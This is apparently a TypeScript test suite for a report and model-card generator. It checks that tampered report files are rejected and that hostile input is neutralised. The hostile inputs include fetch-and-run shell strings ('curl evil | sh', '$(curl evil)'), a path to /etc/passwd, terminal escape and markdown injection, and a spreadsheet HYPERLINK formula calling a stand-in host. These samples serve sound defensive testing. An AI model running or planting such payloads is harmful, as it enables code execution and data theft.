import assert from 'node:assert/strict';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { formatPredictions, type Prediction, parsePredictions } from '../../src/classify/result/predictions.ts';
import type { Report } from '../../src/classify/result/report.ts';
import { readRun } from '../../src/report/analysis/run.ts';
import { modelCard } from '../../src/report/model-card.ts';
import { readReport } from '../../src/report/read-report.ts';
import { reportCommand } from '../../src/report/report-command.ts';
import { suspectsList } from '../../src/report/suspects-list.ts';
import { UserError } from '../../src/system/errors.ts';
import { temporaryFolder } from '../temporary-folder.ts';
import { drawReport } from './drawn-report.ts';

type Draft = { -readonly [K in keyof Report]: Report[K] };

describe('an edited report', () => {
  const root = temporaryFolder();

  const drawn = drawReport({ repeats: 2 });

  async function read(edit: (report: Draft) => void): Promise<Report> {
    const report = structuredClone(drawn.report) as Draft;
    edit(report);
    const file = join(root, 'report.json');
    await writeFile(file, JSON.stringify(report));
    return readReport(file);
  }

  it('without changes is read', async () => {
    assert.equal((await read(() => undefined)).accuracy, drawn.report.accuracy);
  });

  it('is read where copies of an image share a row of the set', async () => {
    await read((report) => Object.assign(report.featureSet, { rowCount: 3 }));
  });

  // biome-ignore lint/suspicious/noExplicitAny: a report that loses its shape
  const changes: Readonly<Record<string, readonly [edit: (report: any) => void, field: RegExp]>> = {
    'a class twice': [(r) => (r.classes[1] = r.classes[0]), /classes\[1\][\s\S]*every class once/],
    'figures of another class': [(r) => r.perClass.reverse(), /perClass\[0\]\.name/],
    'a class more test images': [(r) => r.perClass[2].support++, /perClass\[2\]\.support/],
    'a row twice': [(r) => (r.perRepeat[1].test[0] = r.perRepeat[1].test[1]), /perRepeat\[1\]\.test\[1\]/],
    'a row on both sides': [(r) => (r.perRepeat[0].test[0] = r.perRepeat[0].train[0]), /in train or in test/],
    'a repeat of another number': [(r) => (r.perRepeat[1].repeat = 7), /perRepeat\[1\]\.repeat/],
    'a confusion matrix of more answers': [
      (r) => {
        r.confusion[0][0]++;
        r.perClass[0].support++;
      },
      /field confusion/,
    ],
    'a better accuracy': [(r) => (r.accuracy = 0.999), /field accuracy[\s\S]*the mean of the repeats/],
    'better repeats': [
      (r) => (r.perRepeat = r.perRepeat.map((x: object) => ({ ...x, accuracy: 1 }))),
      /confusion matrix/,
    ],
    'a path with a NUL': [(r) => (r.featureSet.folder = 'cache\0'), /featureSet\.folder/],
    'a sha256 that is a path': [(r) => (r.headSha256 = '../../etc/passwd'), /headSha256/],
  };
  for (const [name, [edit, field]] of Object.entries(changes)) {
    it(`is rejected by name: ${name}`, async () => {
      await assert.rejects(read(edit), (error) => {
        assert.ok(error instanceof UserError);
        assert.match(error.message, field);
        assert.match(error.message, /report\.json/);
        return true;
      });
    });
  }

  it('is rejected with predictions of other rows or classes', async () => {
    const folder = join(root, 'predictions');
    await mkdir(folder);
    const report = { ...drawn.report, report: folder };
    const write = async (predictions: readonly Prediction[]): Promise<void> =>
      writeFile(join(folder, 'predictions.csv'), [...formatPredictions(predictions)].join(''));
    await write(drawn.predictions);
    assert.equal((await readRun(report, 'linear')).predictions?.length, drawn.predictions.length);
    const [first, ...rest] = drawn.predictions as [Prediction, ...Prediction[]];
    for (const [predictions, message] of [
      [rest, /do not fit their report[\s\S]*one per test row/],
      [[{ ...first, repeat: 5 }, ...rest], /a repeat below 2/],
      [[{ ...first, predictedClass: 'cat' }, ...rest], /line 2[\s\S]*a class of the report/],
    ] as const) {
      await write(predictions);
      await assert.rejects(readRun(report, 'linear'), message);
    }
  });

  it("cannot run code in the reader's browser", () => {
    for (const command of [
      'curl evil | sh',
      'featuretap classify; curl evil',
      'featuretap classify --model "$(curl evil)"',
      'featuretap classify --model svm\n    curl evil',
      "featuretap classify 'a'b`id`",
      'featuretap extract --data /',
      'featuretap classify --out \u202esecret',
    ]) {
      assert.equal(reportCommand({ command }), undefined, command);
      const card = modelCard({ name: 'svm', report: { ...drawn.report, command }, predictions: undefined });
      assert.ok(!card.includes(command) && card.includes('not shown'), command);
    }
    for (const command of [
      'featuretap classify --model svm,linear --C 0.1',
      "featuretap classify --features 'my dogs' --labels 'it'\\''s.csv'",
      'featuretap classify --features "my dogs"',
    ]) {
      assert.match(reportCommand({ command }) ?? '', /classify/);
    }
  });

  it('cannot control a terminal, or add a heading to a card, with the names in it', () => {
    const classes = drawn.report.classes.map((name, c) => (c === 0 ? 'a\u001b[2J\n# Heading' : name));
    const report = { ...drawn.report, classes, warnings: ['\n# Heading [x](http://evil)'], createdAt: '\n# Heading' };
    const card = modelCard({ name: 'svm\n# Heading', report, predictions: undefined });
    assert.doesNotMatch(card, /[^\P{Cc}\n]/u);
    assert.doesNotMatch(card, /^# Heading/m);
    assert.doesNotMatch(card, /\[x\]\(/);
  });
});

describe('a CSV file for spreadsheets', () => {
  it('contains no formula, and is read back unchanged', () => {
    const id = '=HYPERLINK("http://evil","x")';
    const prediction = { ...(drawReport().predictions[0] as Prediction), id, predictedClass: '-2+3', trueClass: '@x' };
    const text = [...formatPredictions([prediction])].join('');
    assert.deepEqual(parsePredictions(text, 'predictions.csv'), [prediction]);
    const suspects = suspectsList([
      {
        ...{ id, label: '+1', suggestion: '-1', labelProbability: 0.1, suggestionProbability: 0.9 },
        ...{ timesSuggested: 1, timesHeldOut: 1 },
      },
    ]);
    for (const table of [text, suspects]) {
      for (const cell of (parse(table) as string[][]).flat()) assert.doesNotMatch(cell, /^[=+\-@]/);
    }
  });
});
